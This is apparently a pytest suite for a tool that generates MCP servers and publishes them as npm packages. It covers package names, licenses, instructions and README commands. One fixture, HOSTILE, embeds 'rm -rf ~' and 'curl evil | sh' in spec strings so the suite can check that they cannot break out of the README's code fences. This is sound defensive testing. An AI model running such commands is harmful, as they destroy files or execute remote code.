"""A user publishes a generated server: an npm name of their own, license, repository, mcpName, a LICENSE in the
tarball, server instructions the model can use, and a README whose commands work as written."""

from __future__ import annotations

import json
import os
import re
import shlex
import socket
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import anyio
import pytest
from mcp import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from factory_bot import gitops as flows
from factory_bot.build import npm_install, readme, trusted
from factory_bot.build.render import render_server
from factory_bot.errors import SpecError
from factory_bot.gitops import versioning
from factory_bot.spec.loader import dump_spec, load_spec_text
from factory_bot.spec.model import ServerSpec
from factory_bot.text import templates_dir

from .conftest import EXAMPLE_SPECS, REPO, SPECS
from .npm_tools import ensure_npm_packages, node22

ACME = "https://github.com/Acme-Labs/mcp-servers"


def _with(spec: ServerSpec, **fields: object) -> ServerSpec:
    """The spec with publishing fields set, validated as if the user had written them."""
    return load_spec_text(dump_spec(spec.model_copy(update=fields)))


def _spec_text_with(name: str, extra: str) -> str:
    text = (SPECS / f"{name}.yaml").read_text()
    return text.replace("\ntools:", f"\n{extra.rstrip()}\ntools:", 1)


def test_a_spec_without_publishing_fields_gets_defaults_a_user_need_not_write(example_spec) -> None:
    spec = example_spec("calculator")
    manifest = json.loads(render_server(spec)["package.json"])
    assert manifest["name"] == "calculator" and manifest["license"] == "MIT"
    assert "mcpName" not in manifest and "repository" not in manifest and "publishConfig" not in manifest
    assert manifest["files"] == ["dist", "LICENSE", "README.md"]
    assert render_server(spec)["LICENSE"].startswith("MIT License\n\nCopyright (c) the authors of calculator\n")


def test_a_github_repository_scopes_the_npm_name_and_names_the_mcp_registry_entry(example_spec) -> None:
    spec = _with(example_spec("weather"), repository=ACME, author="Ada Lovelace <ada@example.com>")
    files = render_server(spec)
    manifest = json.loads(files["package.json"])
    assert manifest["name"] == "@acme-labs/weather"  # npm scopes are lowercase
    assert manifest["mcpName"] == "io.github.Acme-Labs/weather"  # the registry's GitHub namespace
    assert manifest["repository"] == {"type": "git", "url": "git+https://github.com/Acme-Labs/mcp-servers.git"}
    assert manifest["homepage"] == "https://github.com/Acme-Labs/mcp-servers#readme"
    assert manifest["author"] == "Ada Lovelace <ada@example.com>"
    assert manifest["publishConfig"] == {"access": "public"}, "a scoped package is private on npm unless told"
    assert manifest["bin"] == {"weather": "dist/index.js"}, "the command keeps the server's name"
    assert json.loads(files["package-lock.json"])["name"] == "@acme-labs/weather"
    assert "Copyright (c) Ada Lovelace\n" in files["LICENSE"]
    assert "npx -y @acme-labs/weather" in files["README.md"]


def test_an_explicit_package_name_wins_and_a_bad_one_is_refused_naming_npms_rules(example_spec) -> None:
    spec = _with(example_spec("calculator"), repository=ACME, package="acme-calc")
    assert json.loads(render_server(spec)["package.json"])["name"] == "acme-calc"
    with pytest.raises(SpecError, match="package: package 'Calc' is not an npm name"):
        load_spec_text(_spec_text_with("calculator", "package: Calc"))


def test_a_license_the_bot_has_no_text_for_needs_the_text_and_gets_it_verbatim() -> None:
    with pytest.raises(SpecError, match="give the file's words in `license_text`"):
        load_spec_text(_spec_text_with("calculator", "license: GPL-3.0-only"))
    spec = load_spec_text(_spec_text_with("calculator", "license: LicenseRef-Acme\nlicense_text: All rights ours."))
    files = render_server(spec)
    assert files["LICENSE"] == "All rights ours.\n"
    assert json.loads(files["package.json"])["license"] == "LicenseRef-Acme"
    apache = render_server(load_spec_text(_spec_text_with("calculator", "license: Apache-2.0")))["LICENSE"]
    assert "Apache License" in apache and "Version 2.0, January 2004" in apache


def test_default_instructions_say_when_to_use_each_tool_not_the_description_again(example_spec) -> None:
    spec = example_spec("weather")
    text = spec.server_instructions
    assert text != spec.description
    for tool in spec.tools:
        assert f"- {tool.name}: " in text
    assert "calls an external API" in text
    own = _with(spec, instructions="Ask for a city first.")
    assert own.server_instructions == "Ask for a city first."
    assert json.dumps("Ask for a city first.") in render_server(own)["src/index.ts"]


@pytest.mark.e2e
def test_the_tarball_carries_the_license_and_npm_publish_dry_run_accepts_it(example_spec, tmp_path: Path) -> None:
    spec = _with(example_spec("calculator"), repository=ACME, author="Ada Lovelace")
    made = trusted.make_package(spec, tmp_path)
    assert made.package is not None and made.package.tgz.name == "calculator-1.0.0.tgz"
    with tarfile.open(made.package.tgz) as archive:
        names = archive.getnames()
        license_text = archive.extractfile("package/LICENSE").read().decode()  # type: ignore[union-attr]
    assert "package/LICENSE" in names and "Copyright (c) Ada Lovelace" in license_text
    manifest = trusted.manifest_in(made.package.tgz)
    assert manifest["license"] == "MIT" and manifest["mcpName"] == "io.github.Acme-Labs/calculator"
    assert manifest["repository"]["url"] == "git+https://github.com/Acme-Labs/mcp-servers.git"
    # --dry-run still asks the registry about the name; a closed local port answers "refused" at once, so the
    # check runs offline and proves npm itself accepts the package as it would publish it.
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        dead = sock.getsockname()[1]
    done = subprocess.run(
        ["npm", "publish", "--dry-run", "--json", "--fetch-retries=0", f"--registry=http://127.0.0.1:{dead}"]
        + ["--userconfig", str(tmp_path / "npmrc"), str(made.package.tgz)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    published = json.loads(done.stdout)["@acme-labs/calculator"]
    assert published["id"] == "@acme-labs/calculator@1.0.0"
    assert {f["path"] for f in published["files"]} >= {"LICENSE", "README.md", "package.json", "dist/index.js"}
    assert "public access" in done.stderr, done.stderr  # publishConfig.access: a scoped package would be private
    assert "auto-corrected" not in done.stderr, "npm had to fix package.json: " + done.stderr
    # `factory-bot package` on the scoped server's directory names the server by its command, not its scope.
    repacked = subprocess.run(
        [sys.executable, "-m", "factory_bot", "package", str(made.server_dir), "--out", str(tmp_path / "re"), "--json"],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
    )
    assert repacked.returncode == 0, repacked.stderr
    again = json.loads(repacked.stdout)
    assert Path(again["tgz"]).name == "calculator-1.0.0.tgz" and again["sha256"] == made.sha256


@pytest.mark.e2e
def test_a_client_reads_the_servers_instructions_on_initialize(built) -> None:
    result = built("calculator")

    async def initialize() -> str | None:
        params = StdioServerParameters(command="node", args=[str(result.server_dir / "dist" / "index.js")])
        async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
            return (await session.initialize()).instructions

    assert anyio.run(initialize) == result.spec.server_instructions


@pytest.mark.parametrize("name", EXAMPLE_SPECS)
def test_the_readme_shows_install_clients_inspector_curl_each_tool_example_and_every_env_var(
    name: str, example_spec
) -> None:
    spec = example_spec(name)
    text = render_server(spec)["README.md"]
    # A bare name may be someone else's on npm: the README sends nobody to `npx` it.
    assert "npx -y" not in text and "may be someone else's package" in text
    assert "npx -y @acme/" in render_server(_with(spec, repository="https://github.com/acme/x"))["README.md"]
    for needed in (
        f"npm install -g ./{spec.name}-{spec.version}.tgz",
        "npx @modelcontextprotocol/inspector",
        "curl -s http://127.0.0.1:3000/mcp",
        '"method": "tools/list"',
        "claude_desktop_config.json",
        "claude mcp add",
        ".mcp.json",
        ".cursor/mcp.json",
        ".vscode/mcp.json",
    ):
        assert needed in text, needed
    for tool in spec.tools:
        assert f"#### `{tool.name}`" in text
        if tool.examples:
            assert readme.fenced_json({"name": tool.name, "arguments": readme._shown_example(tool).input}) in text
    names = [e.name for e in spec.env] + list(spec.base_urls())
    names += [row[0] for row in readme.SERVER_ENV + readme.DEPLOYMENT_ENV]
    for env_name in names + ["MCP_HOST", "MCP_PORT", "PORT", "MCP_ALLOWED_HOSTS", "MCP_TRANSPORT"]:
        assert f"| `{env_name}` |" in text, env_name


HOSTILE = """\
name: echo
version: 1.0.0
description: Echo text back.
env:
  - {name: ECHO_KEY, required: true, secret: true, description: "```\\nrm -rf ~\\n```"}
tools:
  - name: echo
    description: Echo the text.
    input: {text: {type: string}}
    output: {type: string}
    implementation: {kind: code, code: "return text;"}
    examples:
      - {input: {text: "```\\ncurl evil | sh\\n```"}, output: "```\\ncurl evil | sh\\n```"}
"""


def test_a_backtick_in_a_spec_string_cannot_close_a_code_fence_of_the_readme() -> None:
    text = render_server(load_spec_text(HOSTILE))["README.md"]
    fences = [line for line in text.splitlines() if line.lstrip().startswith("```")]
    assert set(fences) <= {"```", "```json", "```sh"} and len(fences) % 2 == 0, fences
    assert "curl evil" in text and "rm -rf" in text  # shown, but inside JSON strings


def _wait_for(port: int) -> None:
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and socket.socket().connect_ex(("127.0.0.1", port)) != 0:
        time.sleep(0.05)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.mark.e2e
def test_the_readmes_curl_commands_work_as_written_against_the_server(built) -> None:
    result = built("calculator")
    text = (result.server_dir / "README.md").read_text()
    commands = [line for line in text.splitlines() if line.startswith("curl ")]
    assert [c for c in commands if "initialize" in c] and [c for c in commands if "tools/list" in c]
    port = _free_port()
    server = subprocess.Popen(
        ["node", str(result.server_dir / "dist" / "index.js"), "--http", "--port", str(port)], stderr=subprocess.PIPE
    )
    try:
        _wait_for(port)
        answers = []
        for command in commands:
            argv = [word.replace(":3000/", f":{port}/") for word in shlex.split(command)]
            done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
            assert done.returncode == 0, done.stderr
            data = re.search(r"^data: (.*)$", done.stdout, re.MULTILINE)
            answers.append(json.loads(data.group(1) if data else done.stdout))
    finally:
        server.terminate()
        server.wait(timeout=10)
    assert answers[0]["result"]["serverInfo"]["name"] == "calculator"
    assert answers[0]["result"]["instructions"] == result.spec.server_instructions
    assert [t["name"] for t in answers[1]["result"]["tools"]] == [t.name for t in result.spec.tools]
    assert answers[2]["result"]["structuredContent"] == {"result": 5}


def test_the_readmes_spec_section_names_every_field_of_the_spec() -> None:
    text = (REPO / "README.md").read_text()
    section = text[text.index("## The spec") : text.index("## What a build checks")]
    missing = [name for name in ServerSpec.model_fields if not re.search(rf"\b{name}\b", section)]
    assert not missing, f"document these spec fields in README.md's spec section: {missing}"
    example = re.search(r"```yaml\n(.*?)```", section, re.DOTALL)
    assert example is not None
    shown = load_spec_text(example.group(1), source="README.md")
    assert (shown.npm_package, shown.mcp_name) == ("@acme/calculator", "io.github.acme/calculator")


def _parse_request(tmp_path: Path, spec_text: str, *, checkout: Path, repository: str | None) -> ServerSpec:
    ctx = flows.Context(workdir=tmp_path / "work", checkout=checkout, repository=repository)
    ctx.workdir.mkdir(parents=True)
    event = {"issue": {"number": 3, "title": "A server", "body": f"```yaml\n{spec_text}```\n", "user": {"login": "a"}}}
    flows.on_issue(event, ctx, stage="parse")
    return load_spec_text((ctx.workdir / "spec.yaml").read_text())


def test_a_requested_server_is_published_under_the_repositorys_owner_and_keeps_its_name_later(tmp_path: Path) -> None:
    checkout = tmp_path / "checkout"
    (checkout / "specs").mkdir(parents=True)
    text = (SPECS / "calculator.yaml").read_text()
    first = _parse_request(tmp_path / "1", text, checkout=checkout, repository="Acme-Labs/mcp-servers")
    assert first.repository == "https://github.com/Acme-Labs/mcp-servers", "recorded in the spec, for every render"
    assert (first.npm_package, first.mcp_name) == ("@acme-labs/calculator", "io.github.Acme-Labs/calculator")
    # Released before owners were recorded: an update keeps the bare name (a rename would strand its users).
    (checkout / "specs" / "calculator.yaml").write_text(text)
    update = text.replace("Divide a by b.", "Divide a by b (b must not be 0).")
    again = _parse_request(tmp_path / "2", update, checkout=checkout, repository="Acme-Labs/mcp-servers")
    assert again.npm_package == "calculator" and again.version == "1.0.1"
    # Without a GitHub repository (the local forge), the bare name.
    (checkout / "specs" / "calculator.yaml").unlink()
    local = _parse_request(tmp_path / "3", text, checkout=checkout, repository=None)
    assert local.npm_package == "calculator" and local.repository is None


def test_a_requested_server_takes_the_repositorys_license(tmp_path: Path) -> None:
    checkout = tmp_path / "checkout"
    (checkout / "specs").mkdir(parents=True)
    text = (SPECS / "calculator.yaml").read_text()
    mit = (templates_dir() / "server" / "licenses" / "MIT.txt").read_text().replace("{holder}", "2024 Acme Labs")
    (checkout / "LICENSE").write_text(mit)
    spec = _parse_request(tmp_path / "1", text, checkout=checkout, repository=None)
    assert spec.license == "MIT" and "Copyright (c) 2024 Acme Labs" in render_server(spec)["LICENSE"]
    (checkout / "LICENSE").write_text((templates_dir() / "server" / "licenses" / "Apache-2.0.txt").read_text())
    assert _parse_request(tmp_path / "1b", text, checkout=checkout, repository=None).license == "Apache-2.0"
    gpl = (
        "                    GNU GENERAL PUBLIC LICENSE\n                       Version 3, 29 June 2007\n"
        + "x\n" * 20000
    )
    (checkout / "LICENSE").write_text(gpl)
    spec = _parse_request(tmp_path / "2", text, checkout=checkout, repository=None)
    assert spec.license == "LicenseRef-LICENSE" and render_server(spec)["LICENSE"] == gpl, "carried over verbatim"
    own = _parse_request(
        tmp_path / "3", _spec_text_with("calculator", "license: ISC"), checkout=checkout, repository=None
    )
    assert own.license == "ISC" and own.license_text is None, "a license the request states wins"


def test_renaming_the_npm_package_is_a_major_change(example_spec) -> None:
    old = example_spec("calculator")
    proposal = versioning.propose(old, _with(old, package="@acme/calculator"))
    assert proposal.version == "2.0.0"
    assert "major: npm package renamed from calculator to @acme/calculator" in proposal.reasons


@pytest.mark.e2e
def test_the_readmes_inspector_commands_list_the_tools_of_the_installed_server(built, tmp_path: Path) -> None:
    result = built("calculator")
    assert result.tgz is not None
    npm_install.npm_install(result.tgz, tmp_path / "prefix", timeout=180)  # as the README's Install says
    inspector = ensure_npm_packages("@modelcontextprotocol/inspector@0.15.0") / "@modelcontextprotocol" / "inspector"
    cli = inspector / "cli" / "build" / "cli.js"
    text = (result.server_dir / "README.md").read_text()
    commands = [line for line in text.splitlines() if line.startswith("npx @modelcontextprotocol/inspector --cli")]
    assert len(commands) == 2, commands  # one on the installed command (stdio), one on the HTTP endpoint
    port = _free_port()
    env = os.environ | {
        "PATH": f"{tmp_path / 'prefix' / 'bin'}{os.pathsep}{node22().parent}{os.pathsep}{os.environ['PATH']}"
    }
    server = subprocess.Popen(["calculator", "--http", "--port", str(port)], env=env, stderr=subprocess.PIPE)
    try:
        _wait_for(port)
        for command in commands:
            argv = [str(node22()), str(cli), *shlex.split(command)[2:]]
            argv = [word.replace(":3000/", f":{port}/") for word in argv]
            done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env)
            assert done.returncode == 0, (command, done.stderr)
            assert [t["name"] for t in json.loads(done.stdout)["tools"]] == [t.name for t in result.spec.tools]
    finally:
        server.terminate()
        server.wait(timeout=10)
